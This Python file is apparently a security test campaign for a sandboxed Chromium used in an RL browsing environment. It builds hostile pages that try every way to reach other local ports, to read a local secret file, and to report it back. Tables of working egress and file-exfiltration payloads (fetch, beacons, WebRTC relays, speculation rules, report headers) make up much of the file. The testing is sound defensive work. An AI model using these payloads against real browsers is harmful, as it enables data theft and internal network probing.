"""Hostile pages in Chromium: each tries to reach something other than its own origin, in a way of its own.

    python bench/campaign/pages.py --minutes 10 --seed 0

Every page is given a port of this machine that nothing else uses, where a listener notices connections and datagrams,
and a file that it must not read. First every way is tried once, then ways, addresses of this machine, redirects and
moments are combined at random until the time is over. The exit status is 1 if any promise was broken.
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import json
import random
import selectors
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from functools import partial
from pathlib import Path
from urllib.parse import quote, unquote

from steadyrl.core.errors import EpisodeError
from steadyrl.environments.browse.browser.actions import Click
from steadyrl.environments.browse.browser.chromium import Chromium
from steadyrl.environments.browse.browser.loopback import Loopback, SiteRequest
from steadyrl.environments.browse.browser.settings import BrowserSettings

SETTLE_S = 0.4  # how long a page is left to itself before and after its button is pressed
PATIENCE_S = 15.0  # for one page; a harmless one takes a fraction of a second, or seconds on a busy machine
LATE_S = 8.0  # how long the listeners stay open at the end, for what Chromium sends late
MARK = "hostile-pages-must-not-read-this"

# Names and numbers by which this machine can be addressed.
HOSTS = ("127.0.0.1", "localhost", "127.0.0.2", "0.0.0.0", "[::1]", "127.1", "2130706433", "[::ffff:127.0.0.1]",
         "a.localhost", "LAN")  # fmt: skip
MOMENTS = ("now", "press", "leave")

# HTML; URL is the address that must not be reached (or, with a redirect, one of ours that leads there).
MARKUP = {
    "image": '<img src="URL">',
    "image of several sizes": '<img srcset="URL 1x, URL?2 2x">',
    "script": '<script src="URL"></script>',
    "module script": '<script type="module" src="URL"></script>',
    "style sheet": '<link rel="stylesheet" href="URL">',
    "import of a style": "<style>@import url(URL);</style>",
    "background": "<style>body { background: url(URL); cursor: url(URL?c), auto }</style>",
    "font": "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>text</p>",
    "frame": '<iframe src="URL"></iframe>',
    "object": '<object data="URL"></object>',
    "embed": '<embed src="URL">',
    "video": '<video src="URL" poster="URL?p" autoplay muted></video>',
    "audio": '<audio src="URL" autoplay></audio>',
    "subtitles": '<video><track default src="URL" kind="captions"></video>',
    "input image": '<input type="image" src="URL">',
    "vector image": '<svg><image href="URL"/><use href="URL#a"/></svg>',
    "icon": '<link rel="icon" href="URL">',
    "manifest": '<link rel="manifest" href="URL">',
    "prefetch": '<link rel="prefetch" href="URL">',
    "preload": '<link rel="preload" as="fetch" href="URL">',
    "module preload": '<link rel="modulepreload" href="URL">',
    "preconnect": '<link rel="preconnect" href="URL">',
    "name prefetch": '<link rel="dns-prefetch" href="URL">',
    "prerender link": '<link rel="prerender" href="URL">',
    "refresh": '<meta http-equiv="refresh" content="0;url=URL">',
    "speculative prefetch": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["URL"], '
    '"eagerness": "immediate"}]}</script>',
    "speculative prerender": '<script type="speculationrules">{"prerender": [{"source": "list", "urls": ["URL"], '
    '"eagerness": "immediate"}]}</script>',
    "speculation on links": '<a href="URL">next</a><script type="speculationrules">{"prefetch": [{"source": '
    '"document", "where": {"href_matches": "*"}, "eagerness": "immediate"}]}</script>',
    "link": '<a href="URL">away</a>',
    "link with a ping": '<a href="#here" ping="URL">here</a>',
    "download": '<a href="URL" download>save</a>',
    "form": '<form action="URL" method="post"><input name="a" value="b"><button>send</button></form>',
    "form in a new tab": '<form action="URL" target="_blank"><button>send</button></form>',
    "frame with a script of its own": '<iframe srcdoc="<script>fetch(`URL`)</script>"></iframe>',
    "sandboxed frame": '<iframe sandbox="allow-scripts" srcdoc="<script>fetch(`URL`)</script>"></iframe>',
    "data frame": '<iframe src="data:text/html,<script>fetch(`URL`)</script>"></iframe>',
}
# JavaScript with URL, and ADDRESS (host:port) for what is no request of a page.
SCRIPTS = {
    "fetch": "fetch('URL', {mode: 'no-cors'})",
    "fetch with credentials": "fetch('URL', {mode: 'cors', credentials: 'include', headers: {'X-A': 'b'}})",
    "fetch kept alive": "fetch('URL', {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true})",
    "fetch later": "window.fetchLater && fetchLater('URL', {activateAfter: 0})",
    "old request": "const r = new XMLHttpRequest(); r.open('POST', 'URL'); r.send('x')",
    "beacon": "navigator.sendBeacon('URL', 'x')",
    "event source": "new EventSource('URL')",
    "address": "location.href = 'URL'",
    "replaced address": "location.replace('URL')",
    "window": "window.open('URL')",
    "window and its address": "const w = window.open('about:blank'); if (w) w.location = 'URL'",
    "form sent": "const f = document.createElement('form'); f.action = 'URL'; f.method = 'post'; "
    "document.body.append(f); f.submit()",
    "import": "import('URL').catch(() => {})",
    "worklet": "new AudioContext().audioWorklet.addModule('URL')",
    "worker": "new Worker('URL')",
    "worker that fetches": "WORK(`fetch('URL', {mode: 'no-cors'})`)",
    "worker that imports": "WORK(`importScripts('URL')`)",
    "worker with a socket": "WORK(`new WebSocket('ws://ADDRESS/')`)",
    "worker of a worker": "WORK(`const b = URL_.createObjectURL(new Blob([\"fetch('URL', {mode: 'no-cors'})\"]));"
    " new Worker(b)`.replace('URL_', 'URL'))",
    "shared worker": "new SharedWorker('URL')",
    "shared worker that fetches": "SHARED(\"fetch('URL', {mode: 'no-cors'})\")",
    "shared worker that asks by the old way": "SHARED(\"const r = new XMLHttpRequest(); r.open('GET', 'URL'); "
    'r.send()")',
    "shared worker that imports": "SHARED(\"importScripts('URL')\")",
    "shared worker with a socket": "SHARED(\"new WebSocket('ws://ADDRESS/')\")",
    "service worker": "navigator.serviceWorker.register('/script/' + encodeURIComponent(\"fetch('URL')\"))",
    "socket": "new WebSocket('ws://ADDRESS/')",
    "secure socket": "new WebSocket('wss://ADDRESS/')",
    "socket with a redirect": "new WebSocket('ws://' + location.host + 'HOP')",
    "socket stream": "window.WebSocketStream && new WebSocketStream('ws://ADDRESS/')",
    "web transport": "new WebTransport('https://ADDRESS/')",
    "secure fetch": "fetch('https://ADDRESS/', {mode: 'no-cors'})",
    "secure address": "location.href = 'https://ADDRESS/'",
    "relay over TCP": "PEER([{urls: 'turn:ADDRESS?transport=tcp', username: 'a', credential: 'b'}], {})",
    "relay over UDP": "PEER([{urls: 'turn:ADDRESS?transport=udp', username: 'a', credential: 'b'}], {})",
    "relay over TLS": "PEER([{urls: 'turns:ADDRESS?transport=tcp', username: 'a', credential: 'b'}], {})",
    "only relays": "PEER([{urls: 'turn:ADDRESS?transport=tcp', username: 'a', credential: 'b'}], "
    "{iceTransportPolicy: 'relay'})",
    "address server": "PEER([{urls: 'stun:ADDRESS'}], {})",
    "peer over UDP": "CANDIDATE('candidate:1 1 udp 2122260223 HOST PORT typ host')",
    "peer over TCP": "CANDIDATE('candidate:1 1 tcp 1518280447 HOST PORT typ host tcptype passive')",
    "speculation added later": "const s = document.createElement('script'); s.type = 'speculationrules'; "
    "s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['URL'], eagerness: 'immediate'}]}); "
    "document.head.append(s)",
    "frame that is not shown": "const f = document.createElement('iframe'); document.body.append(f); "
    "f.contentWindow.eval(\"fetch('URL', {mode: 'no-cors'}); new WebSocket('ws://ADDRESS/')\")",
    "peer of a frame": "const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow."
    "RTCPeerConnection({iceServers: [{urls: 'turn:ADDRESS?transport=tcp', username: 'a', credential: 'b'}]})"
    ".createDataChannel('x')",
    "download by script": "const a = document.createElement('a'); a.href = 'URL'; a.download = 'x'; a.click()",
    "payment": "new PaymentRequest([{supportedMethods: 'URL'}], "
    "{total: {label: 'a', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => {})",
    "another scheme": "location.href = 'ftp://ADDRESS/'",
    "source of the page": "location.href = 'view-source:URL'",
}
# Headers of the page itself.
HEADERS = {
    "refresh header": {"Refresh": "0;url=URL"},
    "preload header": {"Link": "<URL>; rel=preload; as=script"},
    "preconnect header": {"Link": "<URL>; rel=preconnect"},
    "speculation header": {"Speculation-Rules": '"/rules/HOP"'},
    "violation report": {"Content-Security-Policy": "img-src 'none'; report-uri URL"},
    "report endpoint": {"Reporting-Endpoints": 'a="URL"', "Content-Security-Policy": "img-src 'none'; report-to a"},
    "error report": {"NEL": '{"report_to": "a", "max_age": 9, "success_fraction": 1}',
                     "Report-To": '{"group": "a", "max_age": 9, "endpoints": [{"url": "URL"}]}'},
}  # fmt: skip
# What reads a file and tells our own server; FILE is its address.
FILES = {
    "file fetched": "fetch('FILE').then(r => r.text()).then(t => fetch('/told/' + encodeURIComponent(t)))",
    "file asked for": "const r = new XMLHttpRequest(); r.open('GET', 'FILE'); r.onload = () => "
    "fetch('/told/' + encodeURIComponent(r.responseText)); r.send()",
    "file as a page": "location.href = 'FILE'",
    "file in a frame": "const f = document.createElement('iframe'); f.src = 'FILE'; f.onload = () => fetch('/told/' + "
    "encodeURIComponent(f.contentDocument.body.innerText)); document.body.append(f)",
    "file by redirect": "location.href = '/hop/302/' + encodeURIComponent('FILE')",
}

_PRELUDE = """
function WORK(text) { new Worker(URL.createObjectURL(new Blob([text]))) }
function SHARED(text) { new SharedWorker('/script/' + encodeURIComponent(text)) }
function PEER(servers, more) {
  const peer = window.peer = new RTCPeerConnection({iceServers: servers, ...more});
  peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));
}
async function CANDIDATE(text) {
  const one = window.one = new RTCPeerConnection(), two = window.two = new RTCPeerConnection();
  one.createDataChannel('x');
  await one.setLocalDescription(await one.createOffer()); await two.setRemoteDescription(one.localDescription);
  await two.setLocalDescription(await two.createAnswer()); await one.setRemoteDescription(two.localDescription);
  await one.addIceCandidate({candidate: text, sdpMid: '0', sdpMLineIndex: 0});
}
"""
_WHEN = {
    "now": "CODE",
    "press": "document.querySelector('#press').onclick = () => { CODE }",
    "leave": "addEventListener('pagehide', () => { CODE }); addEventListener('beforeunload', () => { CODE })",
}


@dataclass(frozen=True)
class Attack:
    """A hostile page.

    Attributes:
        way: Its name in one of the tables above.
        host: The address of this machine that it uses.
        hop: The status of a redirect of our own server by which it goes there; 0 for none.
        moment: When a script runs: at once, when the button is pressed, or when the page is left.
    """

    way: str
    host: str = "127.0.0.1"
    hop: int = 0
    moment: str = "now"

    @property
    def promise(self) -> str:
        """Return the row of the table that the page belongs to."""
        if self.way in FILES:
            return "no file of this machine is read"
        if self.hop or "redirect" in self.way:
            return "no redirect leads elsewhere"
        for part, promise in _PROMISES.items():
            if part in self.way:
                return promise
        if self.moment == "leave":
            return "nothing is sent elsewhere when a page is left"
        return "no request of a page leaves its origin"

    def page(self, port: int, file: str, lan: str) -> tuple[dict[str, str], str]:
        """Return headers and HTML of the page, whose target is a port of this machine."""
        host = lan if self.host == "LAN" else self.host
        target = f"http://{host}:{port}/x"
        hop = f"/hop/{self.hop or 302}/{quote(target, safe='')}"

        def fill(text: str) -> str:
            filled = text.replace("URL.createObjectURL", "\0").replace("URL", hop if self.hop else target)
            filled = filled.replace("\0", "URL.createObjectURL").replace("ADDRESS", f"{host}:{port}")
            filled = filled.replace("HOST PORT", f"{host.strip('[]')} {port}")
            return filled.replace("HOP", hop).replace("FILE", file)

        headers = {name: fill(value) for name, value in HEADERS.get(self.way, {}).items()}
        body = '<h1>hostile</h1><button id="press">press</button>' + fill(MARKUP.get(self.way, ""))
        code = fill(SCRIPTS.get(self.way) or FILES.get(self.way, ""))
        if "report" in self.way:
            body += '<img src="/refused.png">'
        script = f"<script>{_PRELUDE}{_WHEN[self.moment].replace('CODE', code)}</script>" if code else ""
        return headers, f"<!doctype html><body>{body}{script}"


_PROMISES = {
    "worker": "no worker reaches anything else",
    "socket": "no socket reaches anything else",
    "transport": "no socket reaches anything else",
    "relay": "no peer connection reaches anything else",
    "peer": "no peer connection reaches anything else",
    "address server": "no peer connection reaches anything else",
    "specula": "nothing is fetched or shown ahead from elsewhere",
    "pre": "nothing is fetched or shown ahead from elsewhere",
    "report": "no report is sent elsewhere",
}
ORIGIN = "a tab stays at its origin"
NEXT = "the next page in the same browser is shown as ever"


def attacks(seed: int) -> Iterator[Attack]:
    """Yield every way once, then combinations at random, without end."""
    ways = [*MARKUP, *SCRIPTS, *HEADERS, *FILES]
    yield from map(Attack, ways)
    yield from (Attack(way, moment="leave") for way in ("fetch kept alive", "beacon", "fetch later", "socket", "fetch"))
    yield from (
        Attack(way, hop=302) for way in ("address", "fetch", "frame", "image", "shared worker", "worker", "script")
    )
    rng = random.Random(seed)
    while True:
        one = Attack(rng.choice(ways), rng.choice(HOSTS), rng.choice((0, 0, 301, 302, 303, 307, 308)))
        yield replace(one, moment=rng.choice(MOMENTS)) if one.way in SCRIPTS or one.way in FILES else one


class Listeners:
    """Ports of this machine, TCP and UDP, at which nobody has any business; a touch of one is remembered."""

    def __init__(self) -> None:
        self.touched: dict[int, str] = {}
        self._selector, self._over = selectors.DefaultSelector(), False
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def open(self) -> int:
        """Listen at a port that was free, at all addresses of this machine; return it."""
        tcp = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
        udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        port = tcp.getsockname()[1]
        udp.bind(("::", port))
        for kind, one in (("TCP", tcp), ("UDP", udp)):
            one.setblocking(False)
            self._selector.register(one, selectors.EVENT_READ, (port, kind))
        return port

    def close(self) -> None:
        """Listen no longer."""
        self._over = True
        self._thread.join()
        for key in list(self._selector.get_map().values()):
            key.fileobj.close()
        self._selector.close()

    def _listen(self) -> None:
        while not self._over:
            for key, _ in self._selector.select(0.05):
                port, kind = key.data
                self.touched[port] = kind
                with contextlib.suppress(OSError):
                    key.fileobj.accept()[0].close() if kind == "TCP" else key.fileobj.recv(2048)


class Pages:
    """Serves the hostile pages, what they fetch of us, and a harmless page."""

    def __init__(self) -> None:
        self.pages: dict[str, tuple[dict[str, str], str]] = {"/harmless": ({}, "<h1>harmless</h1>")}
        self.told: list[str] = []
        self.server = Loopback(partial(_Request, self))


class _Request(SiteRequest):
    def __init__(self, pages: Pages, *args: object):
        self._pages = pages
        super().__init__(*args)

    def do_GET(self) -> None:
        """Show a page, redirect, send a script, or note what a page told."""
        path = self.path.partition("?")[0]
        if path.startswith("/hop/"):
            _, _, status, target = path.split("/", 3)
            return self._answer(int(status), {"Location": unquote(target)}, "")
        if path.startswith("/script/"):
            return self._answer(200, {"Content-Type": "text/javascript"}, unquote(path.removeprefix("/script/")))
        if path.startswith("/rules/"):
            target = unquote(path.rpartition("/")[2])
            rules = {"prefetch": [{"source": "list", "urls": [target], "eagerness": "immediate"}]}
            return self._answer(200, {"Content-Type": "application/speculationrules+json"}, json.dumps(rules))
        if path.startswith("/told/"):
            self._pages.told.append(unquote(path.removeprefix("/told/")))
        headers, body = self._pages.pages.get(path, ({}, ""))
        return self._answer(200 if path in self._pages.pages else 404, {"Content-Type": "text/html", **headers}, body)

    do_POST = do_GET

    def _answer(self, status: int, headers: dict[str, str], text: str) -> None:
        body = text.encode()
        self.send_response(status)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)


class Campaign:
    """Opens hostile pages one after the other in one browser, and counts the promises that were broken."""

    def __init__(self, folder: Path):
        """Start the servers; Chromium starts with the first page.

        Args:
            folder: For the file that must not be read.
        """
        self._pages, self._listeners, self._lan = Pages(), Listeners(), lan_address()
        self.origin = self._pages.server.origin
        self._chromium = Chromium(BrowserSettings(page_timeout_s=PATIENCE_S), self.origin)
        self._file = folder / "secret.txt"
        self._file.write_text(MARK, encoding="utf-8")
        self._trials: dict[int, Attack] = {}
        self._strayed: set[tuple[str, Attack]] = set()
        self.hung: list[Attack] = []

    def attempt(self, attack: Attack) -> None:
        """Open a page, press its button, leave it, and look at a harmless page."""
        port = self._listeners.open()
        self._trials[port] = attack
        self._pages.pages["/hostile"] = attack.page(port, self._file.as_uri(), self._lan)
        try:
            self._visit(attack)
        except EpisodeError:
            self.hung.append(attack)  # its browser is ended; what it reached is counted all the same
        try:
            tab = self._chromium.open(f"{self.origin}/harmless", lambda: None)
            shown = tab.look().lines
            tab.close()
        except EpisodeError:
            shown = ()
        if shown != (("heading harmless",),):
            self._strayed.add((NEXT, attack))

    def _visit(self, attack: Attack) -> None:
        tab = self._chromium.open(f"{self.origin}/hostile", lambda: None)
        try:
            time.sleep(SETTLE_S)
            elements = tab.look().elements()
            last = len(elements) - 1  # the way's own link or button, or else the one that is there always
            tab.act(Click(last))
            time.sleep(SETTLE_S)
            tab.look()
            where = tab.evaluate("() => location.origin")
            if where not in (self.origin, "null"):
                self._strayed.add((ORIGIN, attack))
        finally:
            tab.close()

    def end(self) -> list[tuple[str, int, list[str]]]:
        """Wait for what is sent late, end everything, and return the table: promise, trials, failures."""
        time.sleep(LATE_S)
        self._chromium.close()
        time.sleep(SETTLE_S)  # what a browser sends as it ends
        self._listeners.close()
        self._pages.server.close()
        rows: dict[str, tuple[int, list[str]]] = {}
        for port, attack in self._trials.items():
            failures = [f"{attack} by {kind}"] if (kind := self._listeners.touched.get(port)) else []
            trials, known = rows.get(attack.promise, (0, []))
            rows[attack.promise] = trials + 1, known + failures
        for promise in (ORIGIN, NEXT):
            rows[promise] = len(self._trials), [str(one) for broken, one in self._strayed if broken == promise]
        leaked = [text for text in self._pages.told if MARK in text]
        files = Attack(next(iter(FILES))).promise
        if leaked:
            rows[files] = rows[files][0], rows[files][1] + leaked
        return [(promise, trials, failures) for promise, (trials, failures) in sorted(rows.items())]


def lan_address() -> str:
    """Return this machine's address in its network, or 127.0.0.1 where it has none."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(("192.0.2.1", 9))  # nothing is sent: it only tells the address that would be used
        return str(one.getsockname()[0])
    return "127.0.0.1"


def main() -> int:
    """Run the campaign and print its table; return the exit status."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--minutes", type=float, default=10.0)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--pages", type=int, default=None, help="at most so many; without it time alone ends it")
    args = parser.parse_args()
    end = time.monotonic() + 60 * args.minutes
    with tempfile.TemporaryDirectory() as folder:
        campaign = Campaign(Path(folder))
        for attack in itertools.islice(attacks(args.seed), args.pages):
            if time.monotonic() > end:
                break
            campaign.attempt(attack)
        rows = campaign.end()
    print("| promise | trials | failures |\n|---|---|---|")
    for promise, trials, failures in rows:
        print(f"| {promise} | {trials} | {len(failures)} |")
    for _, _, failures in rows:
        for failure in failures:
            print(f"failed: {failure}")
    print(f"{len(campaign.hung)} pages did not answer in time; their browsers were ended")
    return int(any(failures for _, _, failures in rows))


if __name__ == "__main__":
    sys.exit(main())
